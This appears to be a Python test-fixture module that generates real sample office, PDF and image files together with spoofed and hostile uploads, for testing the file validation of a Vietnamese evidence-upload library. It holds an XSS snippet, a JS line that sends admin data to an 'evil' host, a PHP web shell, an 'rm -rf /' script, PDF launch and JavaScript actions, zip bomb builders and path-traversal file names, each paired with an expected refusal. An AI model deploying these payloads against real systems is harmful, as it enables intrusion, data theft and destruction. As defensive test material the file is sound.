"""Sample evidence files built by code (no binary fixtures): one real tiny file of every allowed kind,
40 spoofed or dangerous ones, and a zip bomb. Used by the domain and web tests of the evidence library.

Real files come from the libraries that write them in practice: reportlab (PDF), openpyxl (XLSX),
Pillow (JPG, PNG); DOCX/ODT/ODS are minimal valid packages written with zipfile; DOC/XLS are minimal
OLE2 compound files with a WordDocument / Workbook stream, written by hand (no OLE writer installed).
"""
import io
import struct
import zipfile
import zlib

MB = 1024 * 1024

# ------------------------------------------------------------------------------------------- real files


def pdf_bytes(text: str = "Bao cao tu danh gia", compress: bool = False) -> bytes:
    from reportlab.pdfgen import canvas
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pageCompression=1 if compress else 0, invariant=1)  # same bytes every call
    pdf.drawString(72, 760, text)
    pdf.save()
    return buffer.getvalue()


_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         'officeDocument" Target="word/document.xml"/></Relationships>')
_DOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        '<w:p><w:r><w:t>Báo cáo tự đánh giá</w:t></w:r></w:p></w:body></w:document>')
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx_bytes(*, main: str = DOCX_MAIN, extra_parts: dict | None = None, document: str = _DOC,
               extra_types: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT.format(main=main, extra=extra_types))
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("word/document.xml", document)
        for name, data in (extra_parts or {}).items():
            zf.writestr(name, data)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook
    book = Workbook()
    sheet = book.active
    sheet.title = "Tổng hợp"
    sheet.append(["Tiêu chí", "Điểm"])
    sheet.append(["1.1.1", 1])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?>'
             '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
             'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
             '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
             '</manifest:manifest>')
_CONTENT = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            '<office:body><office:text><text:p>Kế hoạch CCHC</text:p></office:text></office:body>'
            '</office:document-content>')


def odf_bytes(mime: str = "application/vnd.oasis.opendocument.text", *, extra_parts: dict | None = None,
              mimetype_first: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        if mimetype_first:
            zf.writestr(zipfile.ZipInfo("mimetype"), mime, compress_type=zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", _MANIFEST.format(mime=mime))
        zf.writestr("content.xml", _CONTENT)
        for name, data in (extra_parts or {}).items():
            zf.writestr(name, data)
        if not mimetype_first:
            zf.writestr(zipfile.ZipInfo("mimetype"), mime, compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


def image_bytes(fmt: str = "PNG") -> bytes:
    from PIL import Image
    image = Image.new("RGB", (24, 16), (155, 28, 28))
    buffer = io.BytesIO()
    image.save(buffer, fmt)
    return buffer.getvalue()


_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(name: str, kind: int, *, child=_NOSTREAM, right=_NOSTREAM, start=_END, size=0) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0" if name else b""
    return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", _NOSTREAM, right, child) + b"\0" * 36 + struct.pack("<IQ", start, size))


def ole_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (v3, 512-byte sectors): FAT in sector 0, directory in sector 1, each
    stream (padded to 4 kB so no mini stream is needed) in the following sectors. At most 3 streams."""
    sector, body, entries = 2, b"", []
    fat = [_FREE] * 128
    fat[0], fat[1] = _FATSECT, _END
    for index, (name, payload) in enumerate(streams.items()):
        payload = payload.ljust(4096, b"\0")
        count = -(-len(payload) // 512)
        for i in range(count):
            fat[sector + i] = sector + i + 1 if i < count - 1 else _END
        right = index + 2 if index + 1 < len(streams) else _NOSTREAM
        entries.append(_dir_entry(name, 2, right=right, start=sector, size=len(payload)))
        body += payload.ljust(count * 512, b"\0")
        sector += count
    root = _dir_entry("Root Entry", 5, child=1 if streams else _NOSTREAM)
    directory = b"".join([root, *entries]).ljust(512, b"\0")
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<9I", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<109I", 0, *([_FREE] * 108)))
    return header + struct.pack("<128I", *fat) + directory + body


def doc_bytes() -> bytes:
    return ole_bytes({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 64})


def xls_bytes() -> bytes:
    return ole_bytes({"Workbook": b"\x09\x08\x10\x00" + b"\0" * 100})


def real_files() -> dict[str, tuple[str, bytes]]:
    """kind → (a Vietnamese file name, content): one real file of every allowed kind."""
    return {
        "pdf": ("Báo cáo tự đánh giá.pdf", pdf_bytes()),
        "doc": ("Kế hoạch CCHC.doc", doc_bytes()),
        "xls": ("Bảng tổng hợp.xls", xls_bytes()),
        "docx": ("Quyết định ban hành.docx", docx_bytes()),
        "xlsx": ("Số liệu kê khai.xlsx", xlsx_bytes()),
        "odt": ("Công văn.odt", odf_bytes()),
        "ods": ("Thống kê.ods", odf_bytes("application/vnd.oasis.opendocument.spreadsheet")),
        "jpg": ("Ảnh hội nghị.jpg", image_bytes("JPEG")),
        "png": ("Sơ đồ bộ máy.png", image_bytes("PNG")),
    }


# ------------------------------------------------------------------------------------------ zip bombs


def _local(name: bytes, method: int, crc: int, csize: int, usize: int) -> bytes:
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, method: int, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, csize, usize, len(name),
                       0, 0, 0, 0, 0, offset) + name


def overlapping_bomb_docx(copies: int = 100, inflated: int = 10 * MB) -> bytes:
    """A ~20 kB .docx whose central directory lists ``copies`` entries that all point at one deflated run
    of ``inflated`` zero bytes: unpacked, it is copies × inflated (1 GB by default)."""
    zeros = b"\0" * inflated
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    blob = packer.compress(zeros) + packer.flush()
    crc = zlib.crc32(zeros)
    out, central = bytearray(), []
    for name, text in (("[Content_Types].xml", _CT.format(main=DOCX_MAIN, extra="")), ("_rels/.rels", _RELS),
                       ("word/document.xml", _DOC)):
        data = text.encode()
        central.append(_central(name.encode(), 0, zlib.crc32(data), len(data), len(data), len(out)))
        out += _local(name.encode(), 0, zlib.crc32(data), len(data), len(data)) + data
    offset = len(out)
    out += _local(b"word/media/zeros.bin", 8, crc, len(blob), inflated) + blob
    central += [_central(b"word/media/zeros.bin", 8, crc, len(blob), inflated, offset)] * copies
    start = len(out)
    directory = b"".join(central)
    out += directory + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), len(directory),
                                   start, 0)
    return bytes(out)


def ratio_bomb_docx(inflated: int = 5 * MB) -> bytes:
    """An honest .docx (written by zipfile) with a part of zeros: tiny, but > 100:1 once unpacked."""
    return docx_bytes(extra_parts={"word/media/zeros.bin": b"\0" * inflated})


def many_entries_docx(count: int = 10_001) -> bytes:
    return docx_bytes(extra_parts={f"word/media/p{i}.xml": b"" for i in range(count)})


# --------------------------------------------------------------------------------------------- hostile

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('/admin/users/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 48 + b"PE\0\0" + b"\0" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
PHP = b"<?php system($_GET['c']); ?>"


def _pdf_with(body: bytes) -> bytes:
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + body + b" >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def _pdf_objstm_js() -> bytes:
    hidden = zlib.compress(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return (b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n"
            b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + str(len(hidden)).encode() + b" >>\nstream\n" + hidden + b"\nendstream\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def _encrypted_zip() -> bytes:
    data = bytearray(docx_bytes())
    # Set the "encrypted" flag on every entry (local and central headers): enough for the check.
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (pos := data.find(sig, start)) >= 0:
            data[pos + offset] |= 1
            start = pos + 4
    return bytes(data)


def spoofed_files() -> list[tuple[str, str, bytes, str]]:
    """(label, file name, content, expected refusal code) of 45 uploads that must all be refused."""
    pdf, png, jpg = pdf_bytes(), image_bytes("PNG"), image_bytes("JPEG")
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as zf:
        zf.writestr("readme.txt", "not an office file")
    pptx_like = docx_bytes(main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    vba = {"word/vbaProject.bin": b"\xcc\x61" + b"\0" * 50}
    unknown, active = "unknown_type", "pdf_active"
    return [
        ("html as pdf", "x.pdf", HTML, unknown), ("html as docx", "x.docx", HTML, unknown),
        ("html as xlsx", "x.xlsx", HTML, unknown), ("html as jpg", "x.jpg", HTML, unknown),
        ("html as png", "x.png", HTML, unknown),
        ("js as pdf", "x.pdf", JS, unknown), ("js as docx", "x.docx", JS, unknown),
        ("svg as pdf", "x.pdf", SVG, unknown), ("svg as png", "x.png", SVG, unknown),
        ("svg as jpg", "x.jpg", SVG, unknown),
        ("exe as pdf", "x.pdf", EXE, unknown), ("exe as docx", "x.docx", EXE, unknown),
        ("exe as jpg", "x.jpg", EXE, unknown),
        ("elf as pdf", "x.pdf", ELF, unknown), ("elf as xlsx", "x.xlsx", ELF, unknown),
        ("shell as pdf", "x.pdf", SHELL, unknown), ("shell as docx", "x.docx", SHELL, unknown),
        ("php as pdf", "x.pdf", PHP, unknown), ("php as jpg", "x.jpg", PHP, unknown),
        ("php with NUL name", "a.php\x00.pdf", PHP, unknown),
        ("real pdf named .pdf.exe", "x.pdf.exe", pdf, "dangerous_name"),
        ("real pdf named .html", "bao-cao.html", pdf, "dangerous_name"),
        ("real pdf named .docx", "x.docx", pdf, "mismatch"),
        ("docm content named .docx", "x.docx", docx_bytes(main=DOCM_MAIN, extra_parts=vba), "macro"),
        ("vbaProject.bin only", "x.docx", docx_bytes(extra_parts=vba), "macro"),
        ("docx named .docm", "x.docm", docx_bytes(), "macro_name"),
        ("zip bomb docx (ratio)", "x.docx", ratio_bomb_docx(), "zip_bomb"),
        ("zip bomb docx (1 GB overlapping)", "x.docx", overlapping_bomb_docx(), "zip_bomb"),
        ("zip with 10,001 entries", "x.docx", many_entries_docx(), "zip_bomb"),
        ("encrypted zip", "x.docx", _encrypted_zip(), "encrypted"),
        ("plain zip as docx", "x.docx", plain_zip.getvalue(), unknown),
        ("pptx as docx", "x.docx", pptx_like, unknown),
        ("odt with Basic macros", "x.odt", odf_bytes(extra_parts={"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
        ("odt mimetype not first", "x.odt", odf_bytes(mimetype_first=False), unknown),
        ("ole without word stream", "x.doc", ole_bytes({"PowerPoint Document": b"\0" * 10}), unknown),
        ("doc with macros", "x.doc", ole_bytes({"WordDocument": b"\xec\xa5", "Macros": b"\0"}), "macro"),
        ("pdf with /JavaScript", "x.pdf", _pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), active),
        ("pdf with /Launch", "x.pdf", _pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), active),
        ("pdf with escaped /J#61vaScript", "x.pdf", _pdf_with(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), active),
        ("pdf with JS in an object stream", "x.pdf", _pdf_objstm_js(), active),
        ("pdf with /EmbeddedFiles", "x.pdf", _pdf_with(b"/Names << /EmbeddedFiles << /Names [] >> >>"), active),
        ("empty file", "x.pdf", b"", "empty"),
        ("truncated png", "x.png", png[: len(png) // 2], "corrupt"),
        ("truncated jpg", "x.jpg", jpg[: len(jpg) // 2], "corrupt"),
        ("truncated pdf", "x.pdf", pdf[: len(pdf) // 2], "corrupt"),
    ]


#: (name as sent by a browser, display name stored — None when the upload must be refused): 25 names.
HOSTILE_UPLOADS = [
    ("../../x.pdf", "x.pdf"),
    ("..\\..\\x.pdf", "x.pdf"),
    ("/etc/passwd", "passwd.pdf"),
    ("C:\\Windows\\x.pdf", "x.pdf"),
    ("C:x.pdf", "C_x.pdf"),
    ("\\\\server\\share\\x.pdf", "x.pdf"),
    ("../../../../etc/cron.d/x", "x.pdf"),
    ("~/.ssh/authorized_keys", "authorized_keys.pdf"),
    ("file:///etc/passwd", "passwd.pdf"),
    ("bao\x00cao.pdf", "baocao.pdf"),
    ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("aux", "_aux.pdf"),
    ("COM1.tar.pdf", "_COM1.tar.pdf"),
    ("bao cao.pdf.", "bao cao.pdf"),
    ("bao cao.pdf   ", "bao cao.pdf"),
    ("hoso\u202efdp.exe", None),
    ("x.pdf.exe", None),
    ("x.pdf%00.exe", None),
    ("\u2066tai lieu\u2069.pdf", "tai lieu.pdf"),
    ("x\u200f\u200e.pdf", "x.pdf"),
    ("...", "tai-lieu.pdf"),
    (".htaccess", "htaccess.pdf"),
    ('a<b>|"c".pdf', "a_b___c_.pdf"),
    ("Ke\u0302\u0301 hoa\u0323ch.PDF", "Kế hoạch.pdf"),
]
